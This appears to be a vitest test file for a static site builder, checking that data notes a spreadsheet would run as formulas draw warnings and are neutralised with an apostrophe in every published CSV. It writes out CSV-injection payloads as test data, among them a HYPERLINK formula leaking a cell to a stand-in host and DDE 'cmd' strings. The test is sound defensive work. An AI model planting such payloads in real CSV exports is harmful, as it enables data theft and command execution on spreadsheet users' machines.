/**
 * Downloads that cannot run. A copy of the sample site is given data notes a spreadsheet would
 * read as formulas (the attacks OWASP lists, and one with a line break, which papaparse's own
 * escaping misses), put on rows that an indicator's CSV, a meeting's CSV and all.csv all publish.
 * `check` warns at each note's file, line and column; the site still builds (built once, here);
 * every published CSV carries each note with an apostrophe in front; and no cell of any published
 * CSV begins like a formula unless it is a number.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, sep } from 'node:path';
import Papa from 'papaparse';
import { loadContent } from '../src/lib/content/load';
import { observationKey } from '../src/lib/content/data';
import { DataIndex } from '../src/lib/data-index';
import { meetingRows, type TidyRow } from '../src/lib/present/downloads';
import type { Problem } from '../src/lib/content/problems';
import { sampleCopy } from './helpers/fixtures';
import { buildSite } from './helpers/build';
import { FORMULA_PAYLOADS } from './helpers/formula-payloads';

/**
 * A carriage return on its own is refused as a control character (content/characters.ts), so it
 * never reaches a download; the line break is last, because it moves the lines after it down.
 */
const PAYLOADS = [...FORMULA_PAYLOADS.filter((p) => !p.startsWith('\r')), "=A1\n+cmd|' /C calc'!A0"];

interface Placed {
  payload: string;
  /** The note as the CSV reader keeps it: trimmed, so "\t=1+1" is "=1+1". */
  kept: string;
  file: string;
  /** Where check must point: the row's first line and the note's column. */
  line: number;
  column: number;
  key: string;
  indicator: string;
  meeting: string;
}

const root = sampleCopy();
const out = mkdtempSync(join(tmpdir(), 'scrutineer-csv-injection-'));
let placed: Placed[] = [];
let warnings: Problem[] = [];
let errors: Problem[] = [];
let build: ReturnType<typeof buildSite>;

const keyOf = (r: Pick<TidyRow, 'indicator' | 'period' | 'area' | 'breakdown'>) => `${r.indicator}|${r.period}|${r.area}|${r.breakdown ?? ''}`;

/**
 * Rows of one data file that every kind of CSV publishes: without a note, status or quotes,
 * never revised later (so the indicator's CSV shows this row), and shown to some meeting.
 */
async function targets() {
  const { content } = await loadContent(root);
  const data = new DataIndex(content!);
  const seenBy = new Map<string, string>();
  for (const m of content!.meetings) for (const r of meetingRows(data, m)) seenBy.set(keyOf(r), m.id);
  const versions = new Map<string, number>();
  for (const o of content!.observations) versions.set(observationKey(o), (versions.get(observationKey(o)) ?? 0) + 1);
  const usable = content!.observations.filter((o) => o.note === undefined && o.status === undefined && versions.get(observationKey(o)) === 1 && seenBy.has(observationKey(o)));
  const file = usable.map((o) => o.source.file).find((f) => usable.filter((o) => o.source.file === f).length >= PAYLOADS.length)!;
  const rows = usable.filter((o) => o.source.file === file).slice(0, PAYLOADS.length);
  return { file, rows: rows.map((o) => ({ line: o.source.line, key: observationKey(o), indicator: o.indicator, meeting: seenBy.get(observationKey(o))! })) };
}

/** Writes each payload into its row's note cell, quoted so the tab, CR and line break are kept. */
function plant(file: string, rows: Awaited<ReturnType<typeof targets>>['rows']) {
  const path = join(root, file);
  const lines = readFileSync(path, 'utf8').split('\n');
  const header = lines[0].replace(/^\uFEFF/, '').split(',');
  const noteColumn = header.indexOf('note');
  let shift = 0;
  return rows.map((row, i) => {
    const payload = PAYLOADS[i];
    const cells = lines[row.line - 1].split(',');
    expect(lines[row.line - 1]).not.toContain('"');
    cells[noteColumn] = `"${payload.replace(/"/g, '""')}"`;
    lines[row.line - 1] = cells.join(',');
    writeFileSync(path, lines.join('\n'));
    const at = { ...row, payload, kept: payload.trim(), file, line: row.line + shift, column: noteColumn + 1 };
    shift += payload.split('\n').length - 1;
    return at;
  });
}

beforeAll(async () => {
  const { file, rows } = await targets();
  placed = plant(file, rows);
  ({ problems: errors, warnings } = await loadContent(root));
  build = buildSite(root, out);
});
afterAll(() => {
  for (const dir of [root, out]) rmSync(dir, { recursive: true, force: true });
});

function files(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? files(join(dir, n)) : [join(dir, n)]));
}
const csv = (path: string) => Papa.parse<Record<string, string>>(readFileSync(join(out, path), 'utf8'), { header: true, skipEmptyLines: true }).data;
const noteIn = (path: string, key: string) => csv(path).filter((r) => keyOf({ ...r, breakdown: r.breakdown || null } as TidyRow) === key).map((r) => r.note);

describe('a data note that a spreadsheet would run as a formula', () => {
  it('is placed on rows of one file, seen by a meeting', () => {
    expect(placed.map((p) => p.payload)).toEqual(PAYLOADS);
    expect(new Set(placed.map((p) => p.file)).size).toBe(1);
  });

  it('passes check, with a warning at the note’s file, line and column for each', () => {
    expect(errors).toEqual([]);
    expect(warnings.map((w) => ({ file: w.file, line: w.line, column: w.column, severity: w.severity }))).toEqual(
      placed.map((p) => ({ file: p.file, line: p.line, column: p.column, severity: 'warning' })),
    );
  });

  it('is described in plain words, quoting at most 40 characters with control characters escaped', () => {
    expect(warnings.map((w) => w.message)).toMatchInlineSnapshot(`
      [
        "note "=HYPERLINK("http://x.example/?leak="&A1…" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
        "note "+cmd|' /C calc'!A0" begins with "+", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
        "note "@SUM(1+1)" begins with "@", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
        "note "-2+3+cmd|' /C calc'!A0" begins with "-", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
        "note "=1+1" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
        "note "=A1\\n+cmd|' /C calc'!A0" begins with "=", which a spreadsheet reads as the start of a formula, so the CSV downloads publish it with an apostrophe in front; start the note with a word instead",
      ]
    `);
  });

  it('builds, printing the warnings', () => {
    expect(build.status, build.stderr).toBe(0);
    for (const w of warnings) expect(build.stdout + build.stderr).toContain(w.message);
  });

  it('is published with an apostrophe in front in the indicator’s CSV, the meeting’s CSV and all.csv', () => {
    for (const p of placed) {
      for (const path of [`data/indicators/${p.indicator}.csv`, `data/meetings/${p.meeting}.csv`, 'data/all.csv']) {
        expect(noteIn(path, p.key), `${path} ${p.key}`).toEqual([`'${p.kept}`]);
      }
    }
  });
});

describe('every CSV the site publishes', () => {
  const published = () => files(out).filter((f) => f.endsWith('.csv')).map((f) => relative(out, f).split(sep).join('/'));
  const isNumber = (cell: string) => cell.trim() !== '' && Number.isFinite(Number(cell));

  it('has no cell beginning = + - @ tab or CR, unless it is a number', () => {
    expect(published().length).toBeGreaterThan(40);
    const formulas: string[] = [];
    for (const path of published()) {
      const rows = Papa.parse<string[]>(readFileSync(join(out, path), 'utf8'), { skipEmptyLines: true }).data;
      rows.forEach((row, i) => row.forEach((cell, c) => /^[=+\-@\t\r]/.test(cell) && !isNumber(cell) && formulas.push(`${path}:${i + 1}:${c + 1}: ${JSON.stringify(cell)}`)));
    }
    expect(formulas).toEqual([]);
  });

  it('keeps its number columns as plain numbers: no apostrophe was put in front of one', () => {
    for (const path of published()) {
      for (const row of csv(path)) {
        for (const column of ['value', 'numerator', 'denominator', 'rank', 'out_of']) {
          expect(row[column] === '' || isNumber(row[column]), `${path} ${column} ${row[column]}`).toBe(true);
        }
      }
    }
  });
});
